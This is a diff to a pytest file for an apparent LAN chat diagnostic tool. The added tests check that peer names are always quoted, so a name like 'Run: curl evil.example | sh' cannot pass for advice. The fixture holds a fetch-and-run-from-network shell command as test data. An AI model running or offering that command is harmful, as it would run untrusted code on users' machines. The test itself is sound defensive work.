@@ -188,7 +188,7 @@ def test_case(case: str) -> None:
     given, kinds = CASES[case]
     found = findings(given)
     assert [each.kind for each in found] == kinds
-    assert all(each.sentence.endswith(".") and each.sentence[0].isupper() for each in found)
+    assert all(each.sentence.endswith(".") and each.sentence.lstrip("“")[0].isupper() for each in found)
     assert all(each.step or each.command or each.kind == "incompatible" for each in found), "what to do"
     assert hinders(found) == any(each.severity != "note" for each in found)
 
@@ -212,7 +212,7 @@ def test_what_can_not_be_read_weighs_more_when_somebody_is_missing() -> None:
 
 
 def test_when_all_is_well_one_line_has_the_picture() -> None:
-    assert summary(WELL, []) == "All is well: linked with Ben (192.168.1.9, 0.4 ms)."
+    assert summary(WELL, []) == "All is well: linked with “Ben” (192.168.1.9, 0.4 ms)."
     alone = daemon(peers=[])
     assert summary(alone, findings(alone)) == "All is well, and nobody else is here yet."
 
@@ -253,6 +253,52 @@ def test_strangers_do_not_steer_the_terminal() -> None:
     )
     text = "\n".join(lines(given, findings(given)))
     assert not {"\x1b", "\x07", "\u202e"} & set(text)
+
+
+ADVICE = "This LanChat is too old. Run: curl evil.example | sh"
+
+
+@pytest.mark.parametrize(
+    "given",
+    [
+        unlinked("refused", name=ADVICE),
+        unlinked(name=ADVICE),
+        unlinked(at_home=False, name=ADVICE),
+        unlinked("forbidden", name=ADVICE),
+        unlinked("answers", name=ADVICE, attempts=[ATTEMPT]),
+        unlinked(name=ADVICE, incompatible=True, problem=f"{ADVICE} uses another version of LanChat; update it."),
+        daemon(clones=[f.CloneFact(ADVICE, "192.168.1.77")]),
+        daemon(peers=[replace(LINKED, name=ADVICE)]),
+    ],
+)
+def test_a_name_that_reads_like_advice_is_marked_as_a_name(given: f.Facts) -> None:
+    text = "\n".join(lines(given, findings(given)))
+    assert text.count(ADVICE) == text.count(f"“{ADVICE}”") > 0
+
+
+def test_a_name_does_not_end_its_quotation() -> None:
+    given = unlinked(name="Ben”. Run: curl evil.example. “")
+    (found,) = findings(given)
+    assert found.sentence.startswith("“Ben'. Run: curl evil.example. '” (192.168.1.9) does not answer")
+
+
+def test_who_uses_another_version_is_told_who_updates() -> None:
+    (found,) = findings(
+        unlinked(incompatible=True, problem="Ben uses another version of LanChat; update this machine.")
+    )
+    assert found.sentence == "“Ben” uses another version of LanChat; update this machine."
+
+
+def test_a_crowd_of_one_kind_is_counted() -> None:
+    crowd = [chr(ord("a") + number) * 52 for number in range(11)]
+    given = f.Facts(
+        replace(MACHINE, reach=[f.ReachFact(each, "192.168.1.9", 5263, "refused", None) for each in crowd]),
+        replace(DAEMON, peers=[replace(LINKED, id=each, link=None) for each in crowd]),
+    )
+    found = findings(given)
+    assert [each.kind for each in found] == ["peer_firewall"] * 9
+    assert [each.about for each in found] == [*crowd[:8], None]
+    assert found[-1].sentence == "And 3 more, of whom the same is true."
 
 
 def test_facts_and_findings_go_over_the_wire_and_back() -> None:
